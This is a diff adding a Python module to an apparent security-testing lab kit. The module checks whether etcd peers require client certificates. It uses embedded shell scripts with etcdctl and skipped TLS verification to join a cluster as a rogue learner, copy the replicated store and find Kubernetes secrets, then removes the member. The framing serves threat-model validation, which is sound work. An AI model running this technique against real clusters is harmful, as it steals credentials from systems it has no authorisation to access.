@@ -1,0 +1,141 @@
+"""Join etcd as a member that nobody invited, and read everything that it is sent.
+
+Members send one another the whole store. Whoever may call the client port asks to be taken in
+(as a learner, which has no vote: the cluster is in no danger), starts an etcd of his own, and
+finds the secrets in its files; unless members ask one another for certificates.
+"""
+
+from __future__ import annotations
+
+import json
+import secrets
+import time
+from typing import TYPE_CHECKING
+
+from labkit.errors import ProbeError, ProbeTimeout
+from labkit.model import View
+from labkit.techniques._ask import first_refusal, url_of
+from labkit.techniques._base import NETWORK, SECRETS, Prediction, Technique
+from labkit.techniques._etcd import client_channel, keeps_plaintext, takes_anybody
+from labkit.techniques._reach import attacker, request, run
+from labkit.techniques._secret import Secret, true_secret
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+PEERS = "etcd@etcd2 -> etcd@etcd1:2380"
+WANTED = ("shop", "db-credentials", "password")
+KEY = "/registry/secrets/shop/db-credentials"
+NAME, PORT, PATIENCE = "labkit-rogue", 23800, 20.0
+JOIN = """
+set -eu; dir=$1 endpoint=$2 own=$3 log=$1/log
+mkdir "$dir"
+export ETCDCTL_ENDPOINTS=$endpoint ETCDCTL_INSECURE_SKIP_TLS_VERIFY=true
+etcdctl member add "$4" --learner --peer-urls="$own" | grep -E '^ETCD_' >"$dir/env"
+set -a; . "$dir/env"; set +a
+exec etcd --data-dir="$dir/data" --listen-peer-urls="$own" \\
+  --listen-client-urls=http://127.0.0.1:23790 --advertise-client-urls=http://127.0.0.1:23790 \\
+  >"$log" 2>&1
+"""
+LEAVE = """
+dir=$1
+pkill -KILL -f -- "--data-dir=$dir/data" || true
+export ETCDCTL_ENDPOINTS=$2 ETCDCTL_INSECURE_SKIP_TLS_VERIFY=true
+id=$(etcdctl member list | awk -F', ' -v url="$3" '$4 == url { print $1 }')
+[ -z "$id" ] || etcdctl member remove "$id"
+rm -rf "$dir"
+"""
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether members, and etcd, ask who calls; what it keeps."""
+    peers = view.channels(PEERS)[0]
+    joins = first_refusal((peers.client_authentication, ("none",)))
+    for prediction in (joins, takes_anybody(view)):
+        if not prediction.succeeds:
+            return prediction
+    return keeps_plaintext(view)
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Knock at the members' port and at the clients', and join where both open."""
+    secret = true_secret(lab, *WANTED)
+    view = View(lab.environment)
+    client = client_channel(lab)
+    knocks = (
+        ("members' port", url_of(view.channels(PEERS)[0], "/members"), None),
+        ("clients' port", url_of(client, "/v3/cluster/member/list"), b"{}"),
+    )
+    evidence: list[str] = []
+    for name, url, body in knocks:
+        answer = request(lab, url, foothold=foothold, body=body)
+        evidence.append(f"called the {name} of {client.server}, without a credential")
+        if answer.refusal.startswith("HTTP") and b"user name is empty" not in answer.body:
+            raise ProbeError(f"the {name} answers {answer.refusal}")
+        if answer.refusal:
+            reason = answer.refusal
+            return Verdict(
+                TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), _control(lab)
+            )
+    return _join(lab, foothold, url_of(client, ""), secret, evidence)
+
+
+def _join(lab: Lab, foothold: str, endpoint: str, secret: Secret, evidence: list[str]) -> Verdict:
+    folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's machine
+    own = f"http://{lab.addresses[attacker(lab)]}:{PORT}"
+    start = 'nohup sh -c "$0" join "$@" >/dev/null 2>&1 &'
+    try:
+        argv = ["sh", "-c", start, JOIN, folder, endpoint, own, NAME]
+        run(lab, attacker(lab), argv, check=True)
+        found = _wait(lab, folder, secret)
+    finally:
+        run(lab, attacker(lab), ["sh", "-c", LEAVE, "leave", folder, endpoint, own])
+    evidence += ["was taken in as a learner, and started an etcd that nobody invited"]
+    if not found:
+        reason, control = "the replicated value is a ciphertext", f"{KEY} was replicated"
+        return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), control)
+    evidence.append(f"found in its files: {secret.proof}")
+    reason = "etcd replicates to whoever joins"
+    return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, tuple(evidence))
+
+
+def _wait(lab: Lab, folder: str, secret: Secret) -> bool:
+    """Wait until the secret's name is in the files, and say whether its value is, too."""
+    search = ["grep", "--recursive", "--quiet", "--fixed-strings", "--file=-", f"{folder}/data"]
+    deadline = time.monotonic() + PATIENCE
+    while time.monotonic() < deadline:
+        if run(lab, attacker(lab), search, stdin=KEY.encode()).exit_code == 0:
+            return run(lab, attacker(lab), search, stdin=secret.value).exit_code == 0
+        time.sleep(0.3)
+    log = run(lab, attacker(lab), ["tail", "-n", "3", f"{folder}/log"])
+    raise ProbeTimeout("the rogue member got nothing", evidence=log.text.splitlines())
+
+
+def _control(lab: Lab) -> str:
+    listed = json.loads(lab.etcdctl("member", "list", "--write-out=json").stdout)["members"]
+    started = sum(bool(member.get("name")) for member in listed)
+    lab.etcdctl("endpoint", "health")
+    return f"the {started} members know one another and are healthy"
+
+
+TECHNIQUE = Technique(
+    name="etcd-rogue-member",
+    title="Join etcd as a member and be sent every secret",
+    footholds=(NETWORK,),
+    grants=(SECRETS,),
+    about="etcd@* -> etcd@*",
+    properties=("encryption", "client_authentication"),
+    attack=("T1136", "T1552.007"),
+    stride=("spoofing", "information disclosure"),
+    cwe=("CWE-306",),
+    sources=(
+        "Securing communications in Kubernetes (2016), etcd",
+        "https://etcd.io/docs/latest/op-guide/security/",
+        "https://attack.mitre.org/techniques/T1552/007/",
+    ),
+    predict=predict,
+    execute=execute,
+)
